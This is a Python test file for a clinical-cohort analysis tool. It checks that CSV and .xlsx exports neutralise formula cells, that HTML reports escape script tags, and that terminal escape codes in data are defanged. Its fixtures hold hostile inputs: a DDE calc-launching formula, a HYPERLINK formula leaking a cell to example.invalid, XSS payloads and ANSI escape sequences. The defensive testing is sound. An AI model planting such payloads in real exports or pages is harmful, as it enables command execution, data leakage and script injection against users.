"""Hostile strings: exports that spreadsheets cannot run, reports and summaries that browsers and terminals
cannot be driven by, whatever the labels, levels, names and columns hold.

Sources: OWASP "CSV Injection" (cells beginning with =, +, -, @, tab or carriage return are prefixed with a
single quote; memory); files are read back with Python's csv module, pandas and openpyxl, and the .xlsx XML is
searched for formula elements (<f>) directly; the report is opened in Debian's Chromium (Playwright) to see
that no injected script runs.
"""
from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from explorer import CAUTIONS
from explorer.analysis import analyse
from explorer.cli import main
from explorer.cohort import load_cohort
from explorer.errors import FulcrumError
from explorer.exports import neutralise, to_csv_safe, to_xlsx_safe
from explorer.spec import load_spec

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+cmd|x", "-2+3+cmd|x",
           "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1", " =1+1", "=1+1"]
XSS1 = "<script>window.__pwned=1</script>"
XSS2 = '<img src=x onerror="window.__pwned=2">'
XSS3 = "</script><script>window.__pwned=3</script>"
FIRST, SECOND = "lap" + XSS1, "nonop" + XSS2
LEVEL = "care" + XSS3
INDEX_COLUMN = "cfs" + XSS1


# ------------------------------------------------------------------------------------------ OWASP neutralising
@pytest.mark.parametrize("cell", HOSTILE)
def test_cells_that_could_be_formulas_get_a_leading_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3.5", "+7", "1e-5", "42", "plain text", "", "a=b", "e-mail", "'=already"])
def test_plain_numbers_and_ordinary_text_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "=HYPERLINK(\"http://example.invalid\")": HOSTILE,
        "@label": ["ok"] * len(HOSTILE),
        "difference": np.linspace(-0.4, 0.4, len(HOSTILE)),
        "n": np.arange(-4, len(HOSTILE) - 4),
    })


def test_csv_export_is_inert_and_keeps_numbers() -> None:
    frame = _frame()
    data = to_csv_safe(frame)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))  # Python's csv module (reference)
    header, body = rows[0], rows[1:]
    assert header == ["'" + frame.columns[0], "'@label", "difference", "n"]
    for row in body:
        text_cells = row[:2]
        for cell in text_cells:
            assert not cell.startswith(TRIGGERS)
    assert [r[0] for r in body] == ["'" + c for c in HOSTILE]
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", float_precision="round_trip")  # numbers stay numbers
    np.testing.assert_array_equal(back["difference"].to_numpy(), frame["difference"].to_numpy())
    np.testing.assert_array_equal(back["n"].to_numpy(), frame["n"].to_numpy())


def test_xlsx_export_has_no_formulas_and_keeps_numbers() -> None:
    frame = _frame()
    frame.loc[0, "@label"] = "bell\x07 and nul\x00"  # characters .xlsx cannot hold must not break the export
    data = to_xlsx_safe(frame, sheet="results: [all]")
    with zipfile.ZipFile(io.BytesIO(data)) as z:  # the raw sheet XML: formulas live in <f> elements
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]  # openpyxl (reference reader)
    cells = list(sheet.iter_rows())
    assert all(c.data_type != "f" for row in cells for c in row)
    assert [c.value for c in cells[0]] == ["'" + frame.columns[0], "'@label", "difference", "n"]
    # XML parsers read a carriage return in text as a line feed (XML 1.0, section 2.11), so compare that way
    assert [r[0].value for r in cells[1:]] == ["'" + c.replace("\r", "\n") for c in HOSTILE]
    assert [r[2].data_type for r in cells[1:]] == ["n"] * len(HOSTILE)
    # Excel keeps 15 significant digits
    np.testing.assert_allclose([r[2].value for r in cells[1:]], frame["difference"].to_numpy(), rtol=1e-15, atol=1e-16)
    assert cells[1][1].value == "bell\ufffd and nul\ufffd"


# ------------------------------------------------------------------------------------------ a hostile cohort
@pytest.fixture(scope="module")
def hostile(tmp_path_factory, small_text):
    """The invented cohort with script tags in the arm labels, an ordinal level, the index column's name,
    outcome and index names and labels; analysed once."""
    folder = tmp_path_factory.mktemp("hostile")
    t = small_text.copy()
    t["arm"] = t["arm"].map({"laparotomy": FIRST, "non-operative": SECOND})
    t["function_6m"] = t["function_6m"].replace({"care_home": LEVEL})
    t = t.rename(columns={"cfs": INDEX_COLUMN})
    t.to_csv(folder / "cohort.csv", index=False)
    q = json.dumps
    levels = ", ".join(q(v) for v in ("independent", "home_with_help", LEVEL, "bedbound", "dead"))
    (folder / "spec.toml").write_text(f"""
[cohort]
path = "cohort.csv"
id = "pid"
arm = "arm"
arms = [{q(FIRST)}, {q(SECOND)}]

[[outcomes]]
name = "alive"
label = {q("Alive " + XSS2)}
kind = "survival"
time = "days_followed"
event = "died"
horizon = 365

[[outcomes]]
name = {q("function" + XSS1)}
kind = "ordinal"
column = "function_6m"
levels = [{levels}]
favourable = ["independent", "home_with_help"]

[[indices]]
name = {q("cfs" + XSS2)}
column = {q(INDEX_COLUMN)}
label = {q("Frailty " + XSS3)}
""", encoding="utf-8")
    spec = load_spec(folder / "spec.toml")
    return folder, spec, analyse(spec)


def test_results_keep_the_strings_literally(hostile) -> None:
    _, _, result = hostile
    doc = result.document
    assert doc["arms"] == [FIRST, SECOND]
    assert {r["outcome"] for r in doc["results"]} == {"alive", "function" + XSS1}


def test_exported_curves_are_inert(hostile) -> None:
    _, _, result = hostile
    row = result.document["results"][0]
    arms = result.document["arms"]
    frame = pd.DataFrame({"x": [p["x"] for p in row["curve"]],
                          "=" + arms[0]: [p["first"] for p in row["curve"]],
                          arms[1]: [p["second"] for p in row["curve"]],
                          "favours": [arms[0] if p["difference"] > 0 else "-" + arms[1] for p in row["curve"]]})
    rows = list(csv.reader(io.StringIO(to_csv_safe(frame).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["x", "'=" + FIRST, SECOND, "favours"]
    assert all(not r[3].startswith(TRIGGERS) for r in rows[1:])
    assert [float(r[1]) for r in rows[1:]] == [p["first"] for p in row["curve"]]


def test_report_escapes_labels_levels_names_and_columns(hostile) -> None:
    from explorer.report import render_report

    _, _, result = hostile
    html = render_report(result)
    for payload in (XSS1, XSS2, XSS3, "<img src=x", "<script>window"):
        assert payload not in html, payload
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in html  # shown as text, not dropped
    assert "&lt;img src=x onerror=" in html


def test_patient_summary_escapes_labels(hostile) -> None:
    from explorer.patient import place_patient
    from explorer.patient_summary import summary_html

    _, _, result = hostile
    view = place_patient(result.fitset, row=0)
    html = summary_html(view, CAUTIONS)
    for payload in (XSS1, XSS2, XSS3, "<img src=x"):
        assert payload not in html, payload
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in html


@pytest.mark.browser
def test_no_injected_script_runs_when_the_report_opens_in_chromium(hostile, tmp_path) -> None:
    from playwright.sync_api import sync_playwright

    from browser_helpers import CHROMIUM, CHROMIUM_ARGS
    from explorer.report import write_report

    if not Path(CHROMIUM).exists():
        pytest.fail(f"Debian's chromium is not at {CHROMIUM}; `python3 dev.py test` installs it with apt.")
    _, _, result = hostile
    path = write_report(result, tmp_path / "report.html")
    dialogs: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        try:
            page = browser.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(Path(path).resolve().as_uri())
            page.wait_for_function("document.querySelectorAll('.vega-embed svg, .vega-embed canvas').length > 0",
                                   timeout=60_000)
            page.wait_for_timeout(500)
            assert page.evaluate("window.__pwned === undefined")
            body = page.inner_text("body")
        finally:
            browser.close()
    assert not dialogs
    assert XSS1 in body  # the label is shown as text


def test_cli_summary_prints_the_labels_as_text(hostile, capsys) -> None:
    folder, _, _ = hostile
    capsys.readouterr()
    assert main(["analyse", str(folder / "spec.toml")]) == 0
    out = capsys.readouterr().out
    assert f"Arms: {FIRST} (first) minus {SECOND} (second)" in out


# ------------------------------------------------------------------------------------------ terminals
def test_a_hostile_cell_cannot_drive_the_terminal(write_case, small_text, tmp_path, capsys) -> None:
    t = small_text.copy()
    t.loc[3, "arm"] = "\x1b]0;owned\x07\x1b[2J\u202elap"
    spec = write_case(t)
    with pytest.raises(FulcrumError) as info:
        load_cohort(spec)
    message = str(info.value)
    assert "\x1b" not in message and "\u202e" not in message and "\\u001b]0;owned\\u0007" in message
    capsys.readouterr()
    assert main(["validate", str(tmp_path / "spec.toml")]) == 2
    assert "\x1b" not in capsys.readouterr().err


def test_a_hostile_column_name_cannot_drive_the_terminal(write_case, small_text) -> None:
    t = small_text.rename(columns={"cfs": "c\x1b[31mfs"})
    with pytest.raises(FulcrumError) as info:
        load_cohort(write_case(t))
    assert "\x1b" not in str(info.value) and "c\\u001b[31mfs" in str(info.value)
